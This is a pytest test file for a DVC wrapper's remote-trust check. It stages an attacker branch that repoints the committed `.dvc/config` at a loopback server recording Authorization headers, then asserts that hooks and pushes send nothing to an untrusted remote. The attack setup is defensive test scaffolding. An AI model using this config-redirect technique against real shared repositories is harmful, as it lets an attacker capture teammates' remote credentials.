"""DVC remote URLs a commit can change: nothing is sent to one the user did not trust.

The attacker controls a branch of the shared repository. Their commit points the committed
`.dvc/config` at their own HTTP server (on loopback here, recording every request and its
`Authorization` header) and adds data the victim's cache lacks, so the victim's hooks would fetch
it. The victim keeps the team remote's credentials in `.dvc/config.local`, as DVC advises. Without
the trust check, DVC sends them to the attacker's server with the first request.
"""

from __future__ import annotations

import json
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest

from mlv.adapters import remote_trust
from mlv.errors import EXIT_UNTRUSTED
from tests.conftest import dvc, git, mlv
from tests.hooks_helpers import add_git_remote, install_hooks, run_git

LOOPBACK = "127.0.0.1"


class RecordingServer:
    """An HTTP server on loopback that answers everything and remembers each request."""

    def __init__(self) -> None:
        self.requests: list[tuple[str, str, str | None]] = []  # method, path, Authorization
        recorded = self.requests

        class Handler(BaseHTTPRequestHandler):
            def _record(self) -> None:
                recorded.append((self.command, self.path, self.headers.get("Authorization")))
                length = int(self.headers.get("Content-Length") or 0)
                if length:
                    self.rfile.read(length)
                self.send_response(404 if self.command in ("GET", "HEAD") else 200)
                self.send_header("Content-Length", "0")
                self.end_headers()

            do_GET = do_HEAD = do_POST = do_PUT = do_PROPFIND = _record  # noqa: N815 - http.server's names

            def log_message(self, *args: object) -> None:
                pass

        self.server = ThreadingHTTPServer((LOOPBACK, 0), Handler)
        self.url = f"http://{LOOPBACK}:{self.server.server_address[1]}/store"
        self.thread = threading.Thread(target=self.server.serve_forever, daemon=True)
        self.thread.start()

    def close(self) -> None:
        self.server.shutdown()
        self.server.server_close()


@pytest.fixture
def attacker() -> Iterator[RecordingServer]:
    server = RecordingServer()
    yield server
    server.close()


def _team_repository(experiment_repo: Path, tmp_path: Path) -> tuple[Path, Path, Path]:
    """The team's repository (a folder DVC remote, pushed to a bare `origin`) and the victim's
    clone of it, with hooks, the team remote trusted and credentials in `.dvc/config.local`."""
    store = tmp_path / "team-store"
    dvc(experiment_repo, "remote", "add", "-d", "storage", str(store))
    git(experiment_repo, "add", ".dvc/config")
    git(experiment_repo, "commit", "-q", "--no-verify", "-m", "DVC remote")
    bare = tmp_path / "origin.git"
    add_git_remote(experiment_repo, bare)
    mlv(experiment_repo, "push")
    victim = tmp_path / "victim"
    git(tmp_path, "clone", "-q", str(bare), str(victim))
    install_hooks(victim)
    mlv(victim, "remote", "trust", "storage")
    mlv(victim, "pull")
    # What `dvc remote modify --local storage auth basic` (and user, password) writes for an HTTP
    # remote; written directly, since DVC refuses those keys while the remote is a folder.
    (victim / ".dvc" / "config.local").write_text(
        "['remote \"storage\"']\n    auth = basic\n    user = victim\n    password = s3cret-token\n")
    return experiment_repo, bare, victim


def _attacker_branch(team: Path, attacker_url: str, branch: str = "evil") -> None:
    """A branch whose `.dvc/config` points the remote at ATTACKER_URL, with data the victim lacks."""
    git(team, "switch", "-q", "-c", branch)
    (team / ".dvc" / "config").write_text(
        f"[core]\n    remote = storage\n['remote \"storage\"']\n    url = {attacker_url}\n")
    (team / "bait.csv").write_text("a,b\n1,2\n")
    dvc(team, "add", "bait.csv")
    git(team, "add", "-A")
    git(team, "commit", "-q", "--no-verify", "-m", "bait")
    git(team, "push", "-q", "origin", branch)
    git(team, "switch", "-q", "main")


def _one_line_naming(stderr: str, old: str, new: str) -> str:
    lines = [line for line in stderr.splitlines() if "mlv remote trust" in line]
    assert len(lines) == 1, stderr
    assert old in lines[0] and new in lines[0], lines[0]
    return lines[0]


@pytest.mark.slow
def test_post_checkout_sends_nothing_to_a_url_the_branch_chose(experiment_repo: Path, tmp_path: Path,
                                                               attacker: RecordingServer) -> None:
    team, _bare, victim = _team_repository(experiment_repo, tmp_path)
    _attacker_branch(team, attacker.url)
    git(team, "switch", "-q", "-c", "moved", "main")  # the URL alone changes: still said, in one line
    (team / ".dvc" / "config").write_text(
        f"[core]\n    remote = storage\n['remote \"storage\"']\n    url = {attacker.url}\n")
    git(team, "commit", "-q", "--no-verify", "-am", "moved")
    git(team, "push", "-q", "origin", "moved")
    git(victim, "fetch", "-q")
    moved = run_git(victim, "checkout", "-q", "moved")
    assert moved.returncode == 0, moved.stderr
    _one_line_naming(moved.stderr, str(tmp_path / "team-store"), attacker.url)
    git(victim, "checkout", "-q", "main")
    result = run_git(victim, "checkout", "-q", "evil")
    assert result.returncode == 0, result.stderr
    assert attacker.requests == []
    line = _one_line_naming(result.stderr, str(tmp_path / "team-store"), attacker.url)
    assert len(result.stderr.strip().splitlines()) == 1 and "HEAD is now" in line
    assert not (victim / "bait.csv").exists()


@pytest.mark.slow
def test_post_merge_sends_nothing_and_trust_lets_it_through(experiment_repo: Path, tmp_path: Path,
                                                            attacker: RecordingServer) -> None:
    team, _bare, victim = _team_repository(experiment_repo, tmp_path)
    _attacker_branch(team, attacker.url)
    git(victim, "fetch", "-q")
    result = run_git(victim, "merge", "-q", "--ff-only", "origin/evil")
    assert result.returncode == 0, result.stderr
    assert attacker.requests == []
    _one_line_naming(result.stderr, str(tmp_path / "team-store"), attacker.url)
    listed = {r["name"]: r for r in json.loads(mlv(victim, "remote", "list", "--json").stdout)}
    assert listed["storage"]["trusted"] is False and listed["storage"]["url"] == attacker.url
    # Once the user trusts it, requests go there (with the credentials: the user said so).
    mlv(victim, "remote", "trust", "storage")
    mlv(victim, "checkout", "HEAD", "--force", check=False)
    assert attacker.requests and attacker.requests[0][2] is not None


@pytest.mark.slow
def test_pre_push_and_mlv_push_refuse_a_merged_url(experiment_repo: Path, tmp_path: Path) -> None:
    team, _bare, victim = _team_repository(experiment_repo, tmp_path)
    elsewhere = tmp_path / "attacker-store"
    _attacker_branch(team, str(elsewhere))
    git(victim, "fetch", "-q")
    git(victim, "merge", "-q", "--ff-only", "origin/evil")
    (victim / ".dvc" / "config.local").unlink()  # an HTTP remote's keys: DVC refuses them for a folder
    (victim / "mine.csv").write_text("x\n1\n")
    dvc(victim, "add", "mine.csv")
    git(victim, "add", "-A")
    git(victim, "commit", "-q", "--no-verify", "-m", "mine")
    before = git(team, "ls-remote", str(tmp_path / "origin.git"))
    hook = run_git(victim, "push", "-q", "origin", "HEAD:refs/heads/mine")
    assert hook.returncode != 0
    _one_line_naming(hook.stderr, str(tmp_path / "team-store"), str(elsewhere))
    refused = mlv(victim, "push", "origin", check=False)
    assert refused.returncode == EXIT_UNTRUSTED
    assert len(refused.stderr.strip().splitlines()) == 1 and "--yes" in refused.stderr
    assert not elsewhere.exists()
    assert git(team, "ls-remote", str(tmp_path / "origin.git")) == before
    # --yes is for CI: the URL is printed, then the data goes there (all but the bait, which the
    # victim never had, so the commits stay unpushed).
    accepted = mlv(victim, "push", "origin", "--yes", check=False)
    assert "bait.csv" in accepted.stderr
    assert f"trusting the DVC remote storage: {elsewhere} (--yes)" in accepted.stderr
    assert (elsewhere / "files" / "md5").is_dir()


@pytest.mark.slow
def test_a_fresh_clone_trusts_nothing_its_commits_chose(experiment_repo: Path, tmp_path: Path) -> None:
    """The first use of a clone: the URL it came with is not trusted by a hook or an upload."""
    store = tmp_path / "store"
    dvc(experiment_repo, "remote", "add", "-d", "storage", "https://example.invalid/store")
    git(experiment_repo, "add", ".dvc/config")
    git(experiment_repo, "commit", "-q", "--no-verify", "-m", "DVC remote")
    # Made here (a `commit` entry in the reflog): the user's own.
    assert remote_trust.status(experiment_repo, None, upload=True).trusted  # type: ignore[union-attr]
    clone = tmp_path / "clone"
    git(tmp_path, "clone", "-q", str(experiment_repo), str(clone))
    found = remote_trust.status(clone, None, upload=False)
    assert found is not None and not found.trusted and found.why == "not trusted"
    # A remote the user adds in the clone (an unstaged edit) is theirs; so is one in config.local.
    dvc(clone, "remote", "add", "mine", str(tmp_path / "mine"))
    assert remote_trust.status(clone, "mine", upload=True).trusted  # type: ignore[union-attr]
    dvc(clone, "remote", "add", "--local", "private", "https://example.invalid/private")
    assert remote_trust.status(clone, "private", upload=True).trusted  # type: ignore[union-attr]
    # A folder is read without trust (reading sends nothing anywhere), never written.
    git(clone, "checkout", "-q", "--", ".dvc/config")
    dvc(experiment_repo, "remote", "modify", "storage", "url", str(store))
    git(experiment_repo, "commit", "-q", "-am", "folder remote")
    git(clone, "pull", "-q")
    assert remote_trust.status(clone, None, upload=False).trusted  # type: ignore[union-attr]
    assert not remote_trust.status(clone, None, upload=True).trusted  # type: ignore[union-attr]


def test_a_redirecting_setting_is_part_of_what_is_trusted(experiment_repo: Path) -> None:
    """An S3 remote keeps its URL and gains an `endpointurl`: a new where, not trusted."""
    remote = remote_trust.Remote("s3", "s3://bucket/path", (("endpointurl", "http://127.0.0.1:9"),))
    assert remote.where == "s3://bucket/path (endpointurl http://127.0.0.1:9)"
    remote_trust.trust(experiment_repo, remote_trust.Remote("s3", "s3://bucket/path"))
    assert remote.where not in remote_trust.remembered(experiment_repo)


def test_remote_trust_without_a_remote_is_one_line(experiment_repo: Path) -> None:
    result = mlv(experiment_repo, "remote", "trust", "nowhere", check=False)
    assert result.returncode == 1
    assert result.stderr.count("\n") == 1 and "mlv remote list" in result.stderr
